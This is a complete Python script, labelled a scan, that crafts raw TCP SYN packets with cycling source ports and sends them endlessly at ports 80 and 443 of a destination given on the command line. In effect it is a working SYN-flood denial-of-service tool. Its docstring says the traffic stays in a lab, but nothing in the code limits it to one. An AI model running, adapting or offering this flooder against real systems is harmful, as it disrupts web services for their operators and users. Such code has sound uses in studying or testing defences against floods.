#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""scan.py DESTINATION: SYNs from ever new source ports to the web ports of a destination, as fast as a raw socket
takes them. Runs until it is ended; traffic stays in the lab."""
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main():
    destination = sys.argv[1]
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((destination, 9))
    source = socket.inet_aton(probe.getsockname()[0])
    pseudo = source + socket.inet_aton(destination) + struct.pack("!BBH", 0, 6, 20)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    number = 0
    while True:
        number += 1
        ports = (1024 + number % 60000, (80, 443)[number // 60000 % 2])
        syn = struct.pack("!HHIIBBHHH", *ports, number, 0, 0x50, 2, 64240, 0, 0)
        syn = syn[:16] + struct.pack("!H", checksum(pseudo + syn)) + syn[18:]
        try:
            out.sendto(syn, (destination, 0))
        except OSError:
            continue


main()
